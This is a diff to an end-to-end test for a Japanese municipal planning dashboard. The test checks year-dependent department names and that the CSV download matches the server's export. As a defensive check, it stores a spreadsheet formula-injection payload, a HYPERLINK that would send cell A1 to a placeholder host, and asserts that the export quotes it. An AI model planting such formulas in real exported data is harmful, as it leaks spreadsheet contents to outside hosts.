@@ -79,6 +79,7 @@ let server: ServerProcess;
 let planning: HoshinClient;
 let editorToken: string;
 let planningToken: string;
+let adminToken: string;
 const env = () => ({
   HOSHIN_DATA_DIR: dataDir,
   PORT: String(port),
@@ -107,6 +108,11 @@ beforeAll(async () => {
     municipality: MUNICIPALITY,
     department: 'kyoiku',
     name: '教育部',
+  });
+  adminToken = await tokenFor(db.prisma, {
+    role: 'ADMIN',
+    municipality: MUNICIPALITY,
+    name: '管理者',
   });
   await db.close();
   port = await freePort();
@@ -394,4 +400,91 @@ describe.skipIf(!runBrowser)('the dashboard in Chromium, served at /app', () => 
       .toBe(text);
     await page.close();
   }, 240_000);
+
+  it('names a department as it was in the year shown, and downloads the server’s own CSV export', async () => {
+    const graphql = async (query: string, variables: Record<string, unknown>, token: string) => {
+      const response = await fetch(`${server.url}/graphql`, {
+        method: 'POST',
+        headers: { 'content-type': 'application/json', authorization: `Bearer ${token}` },
+        body: JSON.stringify({ query, variables }),
+      });
+      return ((await response.json()) as { data: any }).data;
+    };
+    // A text that a spreadsheet would run as a formula, in 教育部's FY2012 plan.
+    const plan = await kyoiku2012();
+    const formula = '=HYPERLINK("https://example.invalid/?q="&A1,"詳細")';
+    expect(
+      await mutate(
+        'mutation ($input: AddInitiativeInput!) { addInitiative(input: $input) { __typename } }',
+        { plan: plan?.id, text: formula },
+      ),
+    ).toBe('AddInitiativeSuccess');
+    // A FY2014 plan (the staff-mode test wrote FY2013's), then 教育部 renamed from FY2013 on.
+    const created = await graphql(
+      `mutation ($input: CreatePlanInput!) { createPlan(input: $input) { __typename ... on CreatePlanSuccess { plan { id version } } } }`,
+      {
+        input: {
+          municipality: MUNICIPALITY,
+          department: 'kyoiku',
+          fiscalYear: 2014,
+          mission: '翌々年度',
+        },
+      },
+      planningToken,
+    );
+    const draft = created.createPlan.plan;
+    if (!draft) throw new Error(JSON.stringify(created));
+    expect(
+      await mutate(
+        'mutation ($input: PlanVersionInput!) { publishPlan(input: $input) { __typename } }',
+        { id: draft.id, expectedVersion: draft.version },
+      ),
+    ).toBe('PublishPlanSuccess');
+    const { department } = await graphql(
+      `{ department(municipality: "${MUNICIPALITY}", code: "kyoiku") { id version } }`,
+      {},
+      adminToken,
+    );
+    const renamed = await graphql(
+      'mutation ($input: UpdateDepartmentInput!) { updateDepartment(input: $input) { __typename } }',
+      {
+        input: {
+          id: department.id,
+          expectedVersion: department.version,
+          name: 'こども教育部',
+          renamedFrom: 2013,
+        },
+      },
+      adminToken,
+    );
+    expect(renamed.updateDepartment.__typename).toBe('UpdateDepartmentSuccess');
+
+    const page = await openPage('browse?y=2012&d=kyoiku');
+    await expect.poll(() => page.getByTestId('department-name').textContent()).toBe('教育部');
+    await page.goto(appUrl('browse?y=2014&d=kyoiku'));
+    await expect
+      .poll(() => page.getByTestId('department-name').textContent(), { timeout: 10_000 })
+      .toBe('こども教育部');
+
+    // The download is the server's export with the view's filters, byte for byte.
+    await page.goto(appUrl('browse?y=2012&d=kyoiku'));
+    await expect.poll(() => page.getByTestId('initiative').count()).toBeGreaterThan(3);
+    const [download] = await Promise.all([
+      page.waitForEvent('download'),
+      page.getByTestId('download-csv').click(),
+    ]);
+    expect(download.suggestedFilename()).toBe('initiatives-132047-2012-kyoiku.csv');
+    const downloaded = await readFile((await download.path()) as string);
+    const served = Buffer.from(
+      await (
+        await fetch(
+          `${server.url}/export/initiatives.csv?municipality=${MUNICIPALITY}&fiscalYear=2012&department=kyoiku`,
+        )
+      ).arrayBuffer(),
+    );
+    expect(downloaded.equals(served)).toBe(true);
+    // Opened in a spreadsheet, the formula is a text: the server quoted it.
+    expect(downloaded.toString('utf8')).toContain(`"'=HYPERLINK(""https://example.invalid`);
+    await page.close();
+  }, 120_000);
 });
